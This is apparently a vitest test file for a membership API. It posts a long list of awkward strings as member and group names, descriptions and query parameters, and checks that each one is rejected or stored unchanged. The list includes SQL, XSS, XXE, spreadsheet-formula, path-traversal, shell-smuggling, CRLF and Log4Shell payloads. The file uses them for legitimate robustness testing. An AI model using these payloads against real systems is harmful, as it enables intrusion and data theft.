import { memberSortFields, memberStatuses } from '@gatehouse/contract';
import { expect, test } from 'vitest';
import { expectResponse } from '../contract/answers.ts';
import { everyItem } from '../contract/given.ts';
import { forEachStore, forOneStore } from '../stores.ts';
import type { TestSite } from '../test-server.ts';
import { useTestServer } from '../use-server.ts';

const dollar = '$';
const strings = [
  'null',
  'NULL',
  '(null)',
  'undefined',
  'None',
  'nil',
  'NaN',
  'Infinity',
  '-Infinity',
  'true',
  'false',
  '0',
  '-1',
  '1e400',
  '0x7fffffffffffffff',
  '9007199254740993',
  '1/0',
  '00',
  '١٢٣',
  '１２３',
  '1,000.00',
  'constructor',
  'prototype',
  '__proto__',
  'toString',
  'hasOwnProperty',
  '[object Object]',
  'length',
  '"',
  "'",
  '`',
  '""',
  "''",
  '\\',
  '\\\\',
  '/',
  '//',
  '%',
  '_',
  '%%',
  '\\%',
  '*',
  '?',
  '.',
  ',',
  ';',
  ':',
  '|',
  '&',
  '#',
  "O'Brien",
  "'; DROP TABLE members; --",
  "' OR '1'='1",
  '" OR ""="',
  "1'; SELECT pg_sleep(9); --",
  "') UNION SELECT 1 --",
  `${dollar}1`,
  `${dollar}{7*7}`,
  `${dollar}${dollar}a${dollar}${dollar}`,
  '?1',
  ':name',
  '@name',
  "E'\\x00'",
  '/* x */',
  '-- x',
  'a"b',
  '"a b"',
  'a*',
  '*a',
  'NEAR(',
  'NEAR(a b, 2)',
  '^a',
  'a AND b',
  'AND',
  'OR',
  'NOT',
  'a NOT b',
  '-a',
  '+a',
  'email:a',
  '{email}:a',
  'a^2',
  '(a',
  'a)',
  '((((',
  '{',
  '}',
  '[a]',
  '[[',
  'a{1,2}',
  '.*',
  '(?i)a',
  '(a+)+$',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</title>',
  '<!--',
  ']]>',
  '&lt;b&gt;',
  '&#0;',
  'javascript:alert(1)',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '{{7*7}}',
  '{%x%}',
  '<%= 1 %>',
  '%s%n%d',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://x.example")',
  ';=1',
  '../../etc/passwd',
  '..\\..\\boot.ini',
  '/dev/null',
  'C:\\con',
  'CON',
  'NUL',
  '.',
  '..',
  '~',
  'file:///etc/passwd',
  '%2e%2e%2f',
  '%00',
  '; ls',
  '| cat',
  '&& true',
  '`id`',
  `${dollar}(id)`,
  '() { :; }; echo',
  `${dollar}{jndi:ldap://x.example/a}`,
  'é',
  'e\u0301',
  'É',
  'ß',
  'ẞ',
  'SS',
  'ſ',
  'İ',
  'ı',
  'I\u0307',
  'ﬁ',
  'Σίσυφος',
  'ΣΑΣ',
  'ǅ',
  'Å',
  '\u212b',
  '\u2126',
  '\u1e9b\u0323',
  '社會科學院',
  '田中さん',
  '찦차',
  '\u1112\u1161\u11ab',
  'ﾊﾝｶｸ',
  'Ω≈ç√∫',
  '₀₁₂',
  'ก็็็็็',
  'नि',
  'ﷺ',
  '\u{20bb7}',
  '𝕋𝕖𝕤𝕥',
  '\u0344',
  '\u0958',
  '😀',
  '👩‍👩‍👧‍👦',
  '🇩🇪',
  '👍🏽',
  '❤️',
  '\u{1f1e6}',
  '\u{10ffff}',
  '\ufffe',
  '\ufffd',
  '\uffff',
  '\u{e0041}',
  '\ufdd0',
  'مرحبا',
  'שלום',
  '\u202eabc',
  'a\u202eb\u202c',
  '\u2066a\u2069',
  '\u200f',
  'a\u061cb',
  'a\u200bb',
  '\u200b',
  'a\u200db',
  '\u2060',
  '\ufeffa',
  'a\ufeffb',
  'a\u00adb',
  '\u3164',
  '\u115f',
  'a\u034fb',
  '\u180e',
  'Z\u0351\u036b\u0343\u036aA\u0302\u0342L\u030dG\u0357O',
  `a${'\u0301'.repeat(50)}`,
  '\u0301',
  '\u0327\u0301a',
  ' ',
  '\u00a0',
  '\u3000',
  'a  b',
  ' a ',
  '\u2003a\u2003',
  'a\u00a0b',
  '\t',
  'a\tb',
  'a\nb',
  'a\r\nb',
  '\r\nX-Forged: 1',
  '\0',
  'a\0b',
  '\u0001',
  '\u007f',
  '\u0085',
  'a\u0085b',
  'a\u2028b',
  'a\u2029b',
  '\u001b[31mred\u001b[0m',
  '\u009b31m',
  '\b',
  'a\u000bb',
  'x'.repeat(99),
  'x'.repeat(100),
  'x'.repeat(101),
  'y'.repeat(199),
  'y'.repeat(200),
  'y'.repeat(201),
  'z'.repeat(500),
  'z'.repeat(501),
  '😀'.repeat(100),
  '😀'.repeat(101),
  '😀'.repeat(200),
  '😀'.repeat(201),
  'ﬀ'.repeat(100),
  '\u0958'.repeat(60),
  'word '.repeat(39),
  `${'w'.repeat(60)} ${'v'.repeat(30)}`,
  '',
  '"'.repeat(100),
  '\\'.repeat(100),
  '%'.repeat(100),
  'İ'.repeat(100),
];
const distinct = [...new Set(strings)];

/** Searchable texts: 1 to 200 characters without a control character. */
const searchable = (text: string) => [...text].length <= 200 && text !== '' && !/\p{Cc}/u.test(text);

/**
 * Whether a parameter of the list of members accepts a text. No text here is an ID or, as `email` requires, an address.
 */
const isTaken = {
  after: () => false,
  limit: (text: string) => /^\d+$/.test(text) && Number(text) >= 1 && Number(text) <= 100,
  paid: (text: string) => ['true', 'false'].includes(text),
  sort: (text: string) => (memberSortFields as readonly string[]).includes(text),
  status: (text: string) => (memberStatuses as readonly string[]).includes(text),
};

forEachStore((store) => {
  const server = useTestServer(store);

  test(`${distinct.length} awkward names of members are rejected, or stored unchanged and found`, async () => {
    expect(distinct.length).toBeGreaterThan(100);
    const site = await server.createSite();
    const names = new Map<string, string | null>();
    for (const [index, displayName] of distinct.entries()) {
      const expected = JSON.stringify(displayName);
      const body = { email: `m${index}@example.com`, displayName };
      const answer = await site.post('/members', body);
      if (answer.status !== 201) {
        expectResponse('createMember', answer, 400, 'invalid_request');
        expect(mayBeRefused(displayName, 200), expected).toBe(true);
        const [item] = (await site.post('/members/bulk', { members: [body] })).body.data;
        expect(item.error.code, expected).toBe('invalid_display_name');
        continue;
      }
      const { data } = expectResponse('createMember', answer, 201);
      expect(data.displayName, expected).toBe(displayName.trim() || null);
      names.set(data.id, data.displayName);
      if (data.displayName === null) continue;
      expect(await newestFound(site, 'listMembers', '/members', data.displayName), expected).toBe(data.id);
    }
    expect(names.size).toBeGreaterThan(100);
    const stored = (await everyItem(site, '/members')).map((member) => [member.id, member.displayName]);
    expect(Object.fromEntries(stored)).toEqual(Object.fromEntries(names));
  });

  test('awkward names and descriptions of groups are rejected, or stored unchanged and found', async () => {
    const site = await server.createSite();
    const names = new Map<string, string>();
    for (const name of distinct) {
      const expected = JSON.stringify(name);
      const answer = await site.post('/access-groups', { name });
      const stored = name.trim().normalize('NFC');
      if (answer.status === 409) {
        expect([...names.values()], expected).toContain(stored);
      } else if (answer.status !== 201) {
        expectResponse('createAccessGroup', answer, 400, 'invalid_request');
        expect(mayBeRefused(stored, 100) || stored === '', expected).toBe(true);
      } else {
        const { data } = expectResponse('createAccessGroup', answer, 201);
        expect(data.name, expected).toBe(stored);
        names.set(data.id, stored);
        expect(await newestFound(site, 'listAccessGroups', '/access-groups', stored), expected).toBe(data.id);
      }
    }
    expect(names.size).toBeGreaterThan(100);

    const descriptions = new Map<string, string>();
    for (const [index, description] of distinct.entries()) {
      const expected = JSON.stringify(description);
      // Every other one is created without it, and gets it by an update.
      const isUpdated = index % 2 === 1;
      const created = isUpdated ? {} : { description };
      const first = await site.post('/access-groups', { name: `Described ${index}`, ...created });
      const path = `/access-groups/${first.body.data?.id}`;
      const answer = isUpdated ? await site.patch(path, { description }) : first;
      if (answer.status === 400) {
        expect([...description].length > 500 || description.includes('\0'), expected).toBe(true);
      } else {
        const { data } = isUpdated
          ? expectResponse('updateAccessGroup', answer, 200)
          : expectResponse('createAccessGroup', answer, 201);
        expect(data.description, expected).toBe(description);
        descriptions.set(data.id, description);
      }
    }
    for (const { id, name, description } of await everyItem(site, '/access-groups')) {
      if (name.startsWith('Described ')) expect(description).toBe(descriptions.get(id) ?? null);
      else expect(name).toBe(names.get(id));
    }
  });

  test('every awkward text can be searched for, and finds no member in an empty site', async () => {
    const site = await server.createSite();
    for (const text of distinct) {
      for (const [id, path] of [
        ['listMembers', '/members'],
        ['listAccessGroups', '/access-groups'],
      ] as const) {
        const answer = await site.get(`${path}?q=${encodeURIComponent(text)}`);
        if (searchable(text)) expect(expectResponse(id, answer, 200).data).toEqual([]);
        else expectResponse(id, answer, 400, 'invalid_request');
      }
    }
  });
});

forOneStore((store) => {
  const server = useTestServer(store);

  test('every awkward text is accepted or rejected like other values of each parameter of a list', async () => {
    const site = await server.createSite();
    const list = (query: Record<string, string>) => site.get(`/members?${new URLSearchParams(query)}`);
    const names = Object.keys(isTaken) as (keyof typeof isTaken)[];
    for (const text of distinct) {
      const taken = names.filter((name) => isTaken[name](text));
      for (const name of taken) expect((await list({ [name]: text })).status, `${name}=${text}`).toBe(200);
      const refused = names.filter((name) => !taken.includes(name));
      const answer = await list(Object.fromEntries(refused.map((name) => [name, text])));
      const { details } = expectResponse('listMembers', answer, 400, 'invalid_request');
      expect(details.map(({ path }: { path: string }) => path.slice(1)).sort(), text).toEqual(refused);
      expect((await list({ email: text })).status, text).toBe(400);
    }
  });
});

function mayBeRefused(text: string, maximum: number): boolean {
  return [...text.trim()].length > maximum || /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u.test(text);
}

/** The newest result of a search. */
async function newestFound(
  site: TestSite,
  operationId: 'listMembers' | 'listAccessGroups',
  path: string,
  q: string,
): Promise<string | undefined> {
  const answer = await site.get(`${path}?limit=1&q=${encodeURIComponent(q)}`);
  return expectResponse(operationId, answer, 200).data[0]?.id;
}
